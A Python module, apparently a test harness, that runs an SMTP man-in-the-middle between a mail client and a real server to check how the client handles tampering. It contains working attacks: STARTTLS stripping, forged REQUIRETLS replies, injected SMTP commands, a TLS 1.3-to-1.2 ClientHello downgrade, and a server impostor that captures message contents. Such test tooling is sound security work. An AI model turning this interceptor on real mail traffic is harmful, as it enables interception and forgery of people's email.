"""A man in the middle: sits at a mail server's address, talks on to the real server, and tampers.

Guarantees: every byte that the client sent outside TLS is kept (`clear`), and every byte that it sent inside a TLS
session which the interceptor itself ended (`inside`): what reached the wire in the open, and what reached the impostor.
Runs in a thread of its own.
"""

from __future__ import annotations

import asyncio
import ssl
import threading
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Literal, Self

Attack = Literal[
    "pass", "strip", "refuse-454", "refuse-501", "inject-replies-before", "inject-replies-at-starttls",
    "inject-commands-at-starttls", "inject-reply-in-tls", "inject-command-in-tls", "impostor", "downgrade-hello",
    "offer-all-strip",
]  # fmt: skip
FORGED = b"250-forged.test\r\n250 REQUIRETLS\r\n"
_TLS_13, _TLS_12 = b"\x00\x2b\x00\x05\x04\x03\x04\x03\x03", b"\x00\x2b\x00\x05\x04\x03\x03\x03\x03"


@dataclass(slots=True)
class Interceptor:
    """One attack at one address. `context` is what an impostor presents."""

    name: str
    address: str
    upstream: str  # address of the real server
    attack: Attack
    context: ssl.SSLContext | None = None
    clear: bytearray = field(default_factory=bytearray)
    inside: bytearray = field(default_factory=bytearray)
    connections: int = 0
    tunnels: int = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection."""
        self.connections += 1
        up_reader, up_writer = await asyncio.open_connection(self.upstream, 25)
        try:
            await self._talk(reader, writer, up_reader, up_writer)
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass  # one end gave up, which is what tampering leads to
        finally:
            up_writer.transport.abort()
            writer.transport.abort()

    async def _talk(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, up_reader: asyncio.StreamReader,
        up_writer: asyncio.StreamWriter,
    ) -> None:  # fmt: skip
        writer.write(await _reply(up_reader))
        while line := await reader.readline():
            self.clear += line
            starts = line.upper().startswith(b"STARTTLS")
            if starts and self.attack.startswith("refuse"):
                writer.write(b"454 4.7.0 not now\r\n" if self.attack == "refuse-454" else b"501 5.5.4 no\r\n")
                continue
            if starts and self.attack == "impostor":
                await self._impersonate(reader, writer)
                return
            injected = starts and self.attack == "inject-commands-at-starttls"
            up_writer.write(line + (b"MAIL FROM:<evil@attacker.test>\r\n" if injected else b""))
            reply = await _reply(up_reader)
            writer.write(self._tampered(line, reply))
            if starts and reply.startswith(b"220"):
                self.tunnels += 1
                await asyncio.gather(
                    self._client_to_server(reader, writer, up_writer), _server_to_client(up_reader, writer)
                )
                return

    def _tampered(self, line: bytes, reply: bytes) -> bytes:
        if line.upper().startswith(b"EHLO"):
            if self.attack in ("strip", "offer-all-strip"):
                reply = reply.replace(b"250-STARTTLS\r\n", b"").replace(b"250 STARTTLS\r\n", b"250 HELP\r\n")
            if self.attack == "offer-all-strip":
                reply = reply.replace(b"250-8BITMIME\r\n", b"250-8BITMIME\r\n250-REQUIRETLS\r\n")
            if self.attack == "inject-replies-before":
                reply += FORGED
        if line.upper().startswith(b"STARTTLS") and self.attack == "inject-replies-at-starttls":
            reply += FORGED
        return reply

    async def _client_to_server(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, upstream: asyncio.StreamWriter
    ) -> None:
        first, injected = True, False
        while data := await reader.read(65536):
            if first and not data.startswith(b"\x16\x03"):
                self.clear += data
            if first and self.attack == "downgrade-hello":
                assert _TLS_13 in data, "the ClientHello offers TLS 1.3 and 1.2"
                data = data.replace(_TLS_13, _TLS_12)
            first = False
            in_tls = b"\x17\x03\x03" in data
            if in_tls and not injected and self.attack == "inject-reply-in-tls":
                writer.write(FORGED)
            if in_tls and not injected and self.attack == "inject-command-in-tls":
                upstream.write(b"MAIL FROM:<evil@attacker.test>\r\n")
            injected = injected or in_tls
            upstream.write(data)
            await upstream.drain()
        upstream.transport.abort()

    async def _impersonate(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        assert self.context is not None
        writer.write(b"220 2.0.0 go ahead\r\n")
        await writer.drain()
        await writer.start_tls(self.context)
        while line := await reader.readline():
            self.inside += line
            if line.upper().startswith(b"EHLO"):
                writer.write(b"250-impostor.test\r\n250-8BITMIME\r\n250 REQUIRETLS\r\n")
            elif line.upper().startswith(b"DATA"):
                writer.write(b"354 go on\r\n")
                self.inside += await reader.readuntil(b"\r\n.\r\n")
                writer.write(b"250 2.0.0 mine now\r\n")
            else:
                writer.write(b"250 2.0.0 ok\r\n")


async def _server_to_client(upstream: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await upstream.read(65536):
        writer.write(data)
        await writer.drain()
    writer.close()


async def _reply(reader: asyncio.StreamReader) -> bytes:
    lines = bytearray()
    while True:
        line = await reader.readline()
        lines += line
        if len(line) < 4 or line[3:4] != b"-":
            return bytes(lines)


class Interceptors:
    """All of them, in one thread."""

    def __init__(self, each: Sequence[Interceptor]) -> None:
        self._each = each
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._ready = threading.Event()
        self._fault: list[BaseException] = []

    def __enter__(self) -> Self:
        self._thread.start()
        self._ready.wait(10)
        if self._fault:
            raise self._fault[0]
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def _run(self) -> None:
        try:
            for each in self._each:
                self._loop.run_until_complete(asyncio.start_server(each.serve, each.address, 25))
        except OSError as error:
            self._fault.append(error)
            return
        finally:
            self._ready.set()
        self._loop.run_forever()
        for task in asyncio.all_tasks(self._loop):
            task.cancel()
        self._loop.run_until_complete(asyncio.sleep(0.01))
        self._loop.close()
